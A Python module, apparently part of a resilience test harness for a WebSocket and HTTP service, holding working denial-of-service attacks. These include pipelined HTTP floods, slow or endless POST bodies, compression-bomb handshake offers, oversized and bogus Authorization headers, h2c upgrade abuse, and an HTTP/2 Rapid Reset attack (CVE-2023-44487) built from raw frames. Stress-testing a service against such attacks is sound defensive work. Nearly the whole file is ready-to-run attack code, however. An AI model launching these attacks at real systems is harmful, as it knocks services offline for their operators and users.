"""What attackers do over HTTP: floods, bodies and requests that don't end, HTTP/2. Runs on Trio."""

from __future__ import annotations

import re
import struct
from base64 import urlsafe_b64encode

import trio

from attack_parts.attacker import Attacker
from attack_parts.blocks import PING_COMMAND, deflated
from attack_parts.commands import garbage_token
from attack_parts.sockets import held
from attack_parts.wire import RECEIVE_BYTES, cut_at_end, failure_of, read_head

PATHS = ("/", "/metrics", "/ws/stats", "/readyz", "/asyncapi.json", "/ws/connections", "/nothing")
PIPELINED = 20
ANSWERS_S = 8.0
BODY_S = 20.0
CHUNKS = 20_000
STREAMS = 200
RESET_ROUNDS = 50

_STATUS_LINE = re.compile(rb"HTTP/1\.1 (\d{3}) ")
_STATUS_LINE_BYTES = 12
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_SETTINGS, _HEADERS, _RST_STREAM, _GOAWAY = 4, 1, 3, 7
_FRAME_HEAD_BYTES = 9
# GET / over http, by the static table of HPACK (RFC 7541 appendix A), and `:authority: x`.
_GET = b"\x82\x84\x86\x41\x01x"
_CANCELLED = struct.pack("!I", 8)
_DEFLATE_OFFERS = (
    "permessage-deflate",
    "permessage-deflate; client_max_window_bits=15; server_max_window_bits=15",
    ", ".join(["permessage-deflate; client_max_window_bits"] * 500),
    "permessage-deflate; server_max_window_bits=99",
    "x-webkit-deflate-frame, bbf-usp-protocol",
)


async def http_flood(attacker: Attacker) -> None:
    """Requests, many at once over one connection, whose answers are read."""
    path = attacker.rng.choice(PATHS)
    request = attacker.target.request("GET", path)
    with cut_at_end(await attacker.target.connect()) as stream:
        await attacker.send(stream, request * PIPELINED, PIPELINED)
        answered, unread = 0, b""
        with trio.move_on_after(ANSWERS_S):
            while answered < PIPELINED and (data := await stream.receive_some(RECEIVE_BYTES)):
                unread += data
                for status in _STATUS_LINE.findall(unread):
                    answered += 1
                    attacker.tally.got(f"HTTP {status.decode()}")
                # What may be the beginning of a status line is looked at again with what follows it.
                unread = _STATUS_LINE.split(unread)[-1][-_STATUS_LINE_BYTES:]
            return
        attacker.tally.got("no answer")


async def endless_bodies(attacker: Attacker) -> None:
    """A POST whose body does not end: declared and not sent, or chunk after chunk."""
    chunked = attacker.rng.random() < 0.5
    size = attacker.rng.choice((1000, 60_000, 2**40))
    fields = {"Content-Type": "application/json"}
    fields |= {"Transfer-Encoding": "chunked"} if chunked else {"Content-Length": str(size)}
    request = attacker.target.request("POST", "/ws/publish/x", fields)

    async def drip(stream: trio.SocketStream) -> None:
        await attacker.send(stream, request, 1)
        for _ in range(CHUNKS if chunked else 10):
            await attacker.send(stream, b"1\r\n \r\n" if chunked else b" ")
            await trio.sleep(0.01 if chunked else 1.0)

    await held(attacker, drip, BODY_S)


async def posts(attacker: Attacker) -> None:
    """Posted events, one a connection, some of them to the routes of administrators."""
    path = attacker.rng.choice((f"/ws/publish/attack.{attacker.rng.randrange(1_000_000)}", "/ws/broadcast"))
    body = b'{"type":"x","payload":{"a":"' + b"x" * 1000 + b'"}}'
    fields = {"Content-Type": "application/json", "Content-Length": str(len(body)), "Host": "attacker.example"}
    await _once(attacker, attacker.target.request("POST", path, fields, body))


async def deflate_offers(attacker: Attacker) -> None:
    """A handshake that offers compression in each way there is; where it is agreed on, a bomb."""
    offer = attacker.rng.choice(_DEFLATE_OFFERS)
    await attacker.converse(deflated(attacker.rng), headers={"Sec-WebSocket-Extensions": offer})


async def bad_authorization(attacker: Attacker) -> None:
    """A handshake with an Authorization that is none, then a command."""
    text = attacker.rng.choice(
        (f"Bearer {garbage_token(attacker.rng)}", "Bearer", "Basic eDp4", "Bearer " + "x" * 5000)
    )

    async def leave(_stream: trio.SocketStream) -> None:
        await trio.sleep(0.05)

    await attacker.converse([(1, PING_COMMAND)], headers={"Authorization": text}, then=leave)


async def h2c_upgrades(attacker: Attacker) -> None:
    """`Upgrade: h2c`, with settings or with what is none."""
    settings = urlsafe_b64encode(b"\0\3\0\0\0d\0\4\0\0\xff\xff").decode().rstrip("=")
    fields = {
        "Upgrade": "h2c",
        "Connection": "Upgrade, HTTP2-Settings",
        "HTTP2-Settings": attacker.rng.choice((settings, "not base64!", "")),
    }
    await _once(attacker, attacker.target.request("GET", "/ws/stats", fields))


async def rapid_resets(attacker: Attacker) -> None:
    """HTTP/2 by prior knowledge: requests that are taken back as soon as they are sent (CVE-2023-44487)."""
    with cut_at_end(await attacker.target.connect()) as stream:
        await attacker.send(stream, _PREFACE + _h2_frame(_SETTINGS, 0, 0, b""))
        with trio.move_on_after(ANSWERS_S) as limit:
            async with trio.open_nursery() as nursery:
                nursery.start_soon(_read_h2, attacker, stream, nursery.cancel_scope)
                try:
                    for round_number in range(RESET_ROUNDS):
                        first = 1 + 2 * STREAMS * round_number
                        some = [
                            _h2_frame(_HEADERS, 5, number, _GET) + _h2_frame(_RST_STREAM, 0, number, _CANCELLED)
                            for number in range(first, first + 2 * STREAMS, 2)
                        ]
                        await attacker.send(stream, b"".join(some), STREAMS)
                except trio.BrokenResourceError:
                    pass  # the reader counts how it ended
        if limit.cancelled_caught:
            attacker.tally.got("not ended")


async def _read_h2(attacker: Attacker, stream: trio.SocketStream, scope: trio.CancelScope) -> None:
    buffer = bytearray()
    try:
        while data := await stream.receive_some(RECEIVE_BYTES):
            buffer += data
            while len(buffer) >= _FRAME_HEAD_BYTES:
                size = int.from_bytes(buffer[:3], "big")
                if len(buffer) < _FRAME_HEAD_BYTES + size:
                    break
                kind, payload = buffer[3], bytes(buffer[_FRAME_HEAD_BYTES : _FRAME_HEAD_BYTES + size])
                if kind == _GOAWAY:
                    attacker.tally.got(f"GOAWAY {int.from_bytes(payload[4:8], 'big')}")
                elif kind in (_HEADERS, _RST_STREAM):
                    attacker.tally.got("answer" if kind == _HEADERS else "RST_STREAM")
                del buffer[: _FRAME_HEAD_BYTES + size]
        attacker.tally.got("cut")
    except trio.BrokenResourceError as exc:
        attacker.tally.got(failure_of(exc))
    scope.cancel()


def _h2_frame(kind: int, flags: int, number: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + number.to_bytes(4, "big") + payload


async def _once(attacker: Attacker, request: bytes) -> None:
    with cut_at_end(await attacker.target.connect()) as stream:
        await attacker.send(stream, request, 1)
        with trio.move_on_after(ANSWERS_S):
            status, _ = await read_head(stream)
            attacker.tally.got(f"HTTP {status}" if status else "cut")
            return
        attacker.tally.got("no answer")
